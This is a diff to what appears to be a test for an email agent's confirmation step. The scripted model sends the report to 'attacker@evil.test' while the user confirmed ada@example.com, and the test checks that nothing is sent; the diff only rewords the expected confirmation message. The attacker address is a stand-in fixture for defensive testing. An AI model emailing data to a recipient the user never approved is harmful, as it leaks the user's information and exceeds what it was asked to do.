@@ -59,7 +59,7 @@ describe("the flow's confirmation covers only the values it showed (issue 31, it
     const { agent, sent } = emailAgent([emailTo('attacker@evil.test'), done]);
     const asked = await agent.send({ threadId: 't', text: 'send it to ada@example.com' });
     expect(asked.reply).toBe(
-      'This will send the report by email with to = ada@example.com. Shall I go ahead? (yes/no)',
+      'This will send the report by email (to: ada@example.com). Shall I go ahead? (yes/no)',
     );
     const after = await agent.send({ threadId: 't', text: 'yes' });
     expect(sent).toEqual([]);
